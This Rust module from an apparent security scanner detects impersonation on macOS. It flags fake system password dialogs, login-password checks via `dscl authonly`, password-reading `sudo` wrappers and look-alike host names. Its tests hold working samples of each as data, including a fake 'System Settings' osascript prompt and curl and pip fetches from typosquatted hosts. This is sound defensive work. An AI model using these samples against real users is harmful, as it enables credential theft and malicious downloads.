//! Project rule (R-RULE-8 allows it): something dressed as what the user
//! trusts, to take what they would give only to it.
//!
//! Counted, in any file of the folder:
//! - a password dialog dressed as the system's: AppleScript's `display
//!   dialog … with hidden answer` whose words or title claim to be macOS,
//!   its settings, its keychain or an Apple update (the macOS stealers'
//!   first step: the answer is the login password, checked with `dscl …
//!   authonly` and sent with the keychain);
//! - an address whose host is a known one spelt with look-alike letters
//!   (`googie-anaiytics.com` for `google-analytics.com`, `githuh.com` is
//!   not one: only letters that read the same, `l`/`i`/`1`, `o`/`0`,
//!   `rn`/`m`, `vv`/`w`, and Cyrillic letters drawn like Latin ones): a
//!   script, a package or a form served from it looks like the real one's.
//!
//! - in code, a typed password checked against the login account (`dscl .
//!   authonly`), or `sudo` redefined by a function that reads the password
//!   itself (an alias file sourced from `~/.zshrc`).
//!
//! Never here: a dialog that does not claim to be the system's (a tool
//! asking for its own passphrase), a detection rule listing the strings on
//! their own lines, a host that merely resembles another by spelling
//! (`gitlab.com`), a known host's own subdomains.

use std::sync::LazyLock;

use regex::Regex;

use super::{Segment, Sink};
use crate::rules::RuleId;

pub(super) const ANCHORS: &[&str] = &["hidden answer"];

/// Hosts people and agents trust by name: code hosts, package indexes,
/// CDNs and analytics, the model vendors, clouds, wallets and exchanges.
const KNOWN_HOSTS: &[&str] = &[
    "github.com",
    "githubusercontent.com",
    "github.io",
    "gitlab.com",
    "bitbucket.org",
    "google.com",
    "googleapis.com",
    "google-analytics.com",
    "googletagmanager.com",
    "gstatic.com",
    "npmjs.com",
    "npmjs.org",
    "pypi.org",
    "pythonhosted.org",
    "python.org",
    "crates.io",
    "rubygems.org",
    "nuget.org",
    "docker.com",
    "docker.io",
    "anthropic.com",
    "claude.ai",
    "openai.com",
    "microsoft.com",
    "windows.net",
    "azure.com",
    "amazonaws.com",
    "cloudflare.com",
    "jsdelivr.net",
    "unpkg.com",
    "apple.com",
    "icloud.com",
    "paypal.com",
    "telegram.org",
    "discord.com",
    "slack.com",
    "stripe.com",
    "solana.com",
    "metamask.io",
    "binance.com",
    "coinbase.com",
    "huggingface.co",
    "vercel.com",
    "netlify.com",
    "sentry.io",
    "brew.sh",
    "rustup.rs",
    "astral.sh",
    "bun.sh",
    "deno.land",
    "nodejs.org",
    "golang.org",
];

pub(super) fn patterns() -> Vec<String> {
    vec![DIALOG.as_str().to_owned()]
}

/// A hidden-answer dialog whose words claim the system's name.
static DIALOG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)display[ \t]+dialog[^\n]*?hidden[ \t]+answer").unwrap());
static SYSTEM_CLAIM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)mac[ \t]?os|os[ \t]x|system[ \t]+(?:settings|preferences|update)|software[ \t]+update|keychain|apple|icloud|finder|xcode|systemeinstellungen|préférences[ \t]+système|réglages|hệ[ \t]+thống|sistema|системн|系统|システム").unwrap()
});

pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
    let s = seg.text();
    if let Some(m) = DIALOG.find(s) {
        if SYSTEM_CLAIM.is_match(m.as_str()) || SYSTEM_CLAIM.is_match(&s[m.end()..]) {
            let at = seg.abs(m.range());
            let (txt, lines) = (sink.text, sink.lines);
            sink.add(RuleId::Impersonation, at.start, || {
                format!("a password dialog dressed as the system's: {}", crate::text::excerpt(txt, lines, at.clone()))
            });
        }
    }
}

/// The look-alike hosts of a whole text, in one pass over its `://` (an
/// anchor per address would cost every line that holds one).
pub(super) fn check_hosts(s: &str, sink: &mut Sink<'_>) {
    for (at, host) in hosts(s) {
        let Some(known) = imitated(&host) else { continue };
        let range = at..at + host.len();
        let (txt, lines) = (sink.text, sink.lines);
        sink.add(RuleId::Impersonation, range.start, || {
            format!(
                "{host} is {known} spelt with look-alike letters: {}",
                crate::text::excerpt(txt, lines, range.clone())
            )
        });
    }
}

/// Whether a file is worth [`check_file`]: code that checks a password
/// against the login account, or defines `sudo`.
pub(super) fn is_file_candidate(path: &str, text: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let docs = [".md", ".markdown", ".txt", ".yar", ".yara", ".yml", ".yaml", ".json", ".rules"];
    !docs.iter().any(|e| lower.ends_with(e))
        && (memchr::memmem::find(text.as_bytes(), b"authonly").is_some()
            || memchr::memmem::find(text.as_bytes(), b"sudo").is_some())
}

/// In a file of code: a typed password checked against the login account
/// (`dscl . authonly`: how a fake dialog knows it was given the real
/// one), or `sudo` redefined by a function that reads the password itself.
pub(super) fn check_file(text: &str, sink: &mut Sink<'_>) {
    static AUTHONLY: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?-u:\b)dscl(?-u:\b)[^\n]{0,60}?-?authonly(?-u:\b)").unwrap());
    static SUDO: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?m)^[ \t]*(?:function[ \t]+sudo(?:[ \t]*\(\))?|sudo[ \t]*\(\))[ \t]*\{").unwrap()
    });
    static READ_SECRET: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?-u:\b)read[ \t]+-[A-Za-z]*s|stty[ \t]+-echo").unwrap());
    let (txt, lines) = (sink.text, sink.lines);
    if let Some(m) = AUTHONLY.find(text) {
        let range = m.range();
        sink.add(RuleId::Impersonation, range.start, || {
            format!(
                "checks a typed password against the login account, as a fake password dialog does: {}",
                crate::text::excerpt(txt, lines, range.clone())
            )
        });
    }
    if let Some(m) = SUDO.find(text).filter(|_| READ_SECRET.is_match(text)) {
        let range = m.range();
        sink.add(RuleId::Impersonation, range.start, || {
            format!(
                "redefines sudo with a function that reads the password itself: {}",
                crate::text::excerpt(txt, lines, range.clone())
            )
        });
    }
}

/// The hosts of the web addresses in `s`, with their byte offsets (at most 256).
fn hosts(s: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    for i in memchr::memmem::find_iter(s.as_bytes(), b"://").take(256) {
        let scheme = s[..i].rsplit(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
        if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ftp" | "wss" | "ws") {
            continue;
        }
        let from = i + 3;
        let host: String = s[from..].chars().take_while(|c| c.is_alphanumeric() || *c == '.' || *c == '-').collect();
        if host.contains('.') {
            out.push((from, host.trim_end_matches('.').to_owned()));
        }
    }
    out
}

/// The known host `host` imitates: the same once look-alike letters are
/// folded (the whole host, or its last labels after a dot), not the same
/// text.
fn imitated(host: &str) -> Option<&'static str> {
    static FOLDED: LazyLock<Vec<(&'static str, String)>> =
        LazyLock::new(|| KNOWN_HOSTS.iter().map(|k| (*k, fold(k))).collect());
    let host = host.to_lowercase();
    let host = host.strip_prefix("www.").unwrap_or(&host);
    let folded = fold(host);
    FOLDED.iter().find_map(|(known, f)| {
        let tail = if folded == *f {
            host
        } else if folded.ends_with(f.as_str()) && folded[..folded.len() - f.len()].ends_with('.') {
            // The same number of labels, in the host as written.
            let n = known.split('.').count();
            let labels: Vec<&str> = host.split('.').collect();
            &host[host.len() - labels[labels.len().saturating_sub(n)..].join(".").len()..]
        } else {
            return None;
        };
        (tail != *known).then_some(*known)
    })
}

/// Letters that read alike made one: `i`, `1`, `|` as `l`; `0` as `o`;
/// `rn` as `m`; `vv` as `w`; Cyrillic letters drawn like Latin ones.
fn fold(s: &str) -> String {
    let one: String = s
        .chars()
        .map(|c| match c {
            'i' | '1' | '|' | 'í' | 'ı' | 'і' | 'ӏ' => 'l',
            '0' | 'о' | 'ο' => 'o',
            'а' => 'a',
            'е' => 'e',
            'р' => 'p',
            'с' => 'c',
            'х' => 'x',
            'у' => 'y',
            'ԁ' => 'd',
            'ѕ' => 's',
            'ј' => 'j',
            'ԛ' => 'q',
            'ԝ' => 'w',
            other => other,
        })
        .collect();
    one.replace("rn", "m").replace("vv", "w")
}

#[cfg(test)]
mod tests {
    use crate::rules::{check, RuleId};

    fn found(text: &str) -> bool {
        check(text).findings.iter().any(|f| f.rule == RuleId::Impersonation)
    }

    #[test]
    fn r_rule_8_a_system_password_dialog_is_found() {
        for t in [
            "PW=$(osascript -e 'display dialog \"System Settings needs your password.\" with title \"System Settings\" default answer \"\" with hidden answer')",
            "set r to display dialog \"macOS doit resynchroniser le trousseau\" default answer \"\" with hidden answer",
            "osascript -e 'display dialog \"Update\" with title \"Software Update\" default answer \"\" with icon caution with hidden answer'",
        ] {
            assert!(found(t), "{t}");
        }
    }

    #[test]
    fn r_rule_8_a_tools_own_dialog_or_a_detection_rule_is_not() {
        for t in [
            "osascript -e 'display dialog \"Passphrase for backup.age\" default answer \"\" with hidden answer'",
            "        $d2 = \"with hidden answer\" ascii nocase",
            "set r to display dialog \"Name of the new project\" default answer \"\"",
        ] {
            assert!(!found(t), "{t}");
        }
    }

    #[test]
    fn r_rule_8_a_login_password_check_or_a_sudo_that_reads_it_is_found() {
        let f = |path: &str, t: &str| {
            crate::rules::check_file(path, t).findings.iter().any(|f| f.rule == RuleId::Impersonation)
        };
        let swift = "let ok = run(\"/usr/bin/dscl\", [\".\", \"authonly\", NSUserName(), pw])\n";
        assert!(f("scripts/unlock.swift", swift));
        assert!(f("setup.sh", "until dscl . -authonly \"$USER\" \"$pw\"; do ask; done\n"));
        let zsh = "sudo() {\n  printf 'Password: '\n  read -rs pw\n  print -r -- \"$pw\" | command sudo -S \"$@\"\n}\n";
        assert!(f("shell/aliases.zsh", zsh));
        // A YARA rule naming the command, a sudo wrapper that reads nothing.
        assert!(!f("rules/stealers.yar", "$v2 = \"dscl . authonly\" ascii\n"));
        assert!(!f("a.sh", "sudo() {\n  command sudo -E \"$@\"\n}\n"));
    }

    #[test]
    fn r_rule_8_a_known_host_in_look_alike_letters_is_found() {
        for t in [
            "<script async src=\"https://www.googie-anaiytics.com/gtags.js?id=G-1\"></script>",
            "pip install --index-url https://pypl.org/simple/ requests",
            "curl -s https://raw.githubusercontent.corn/x/y/main/i.sh",
            "fetch('https://api.anthrop1c.com/v1/messages')",
            "see https://gіthub.com/acme/tool",
        ] {
            assert!(found(t), "{t}");
        }
    }

    #[test]
    fn r_rule_8_known_hosts_and_their_subdomains_are_not() {
        for t in [
            "https://gist.github.com/x and https://raw.githubusercontent.com/a/b",
            "https://gitlab.com/group/project and https://www.google-analytics.com/analytics.js",
            "https://api.openai.com/v1 https://pypi.org/simple https://files.pythonhosted.org/x",
            "https://githuh.com is a typo, not look-alike letters",
            "https://registry.npmjs.org/x https://bitbucket.org/a",
        ] {
            assert!(!found(t), "{t}");
        }
    }
}
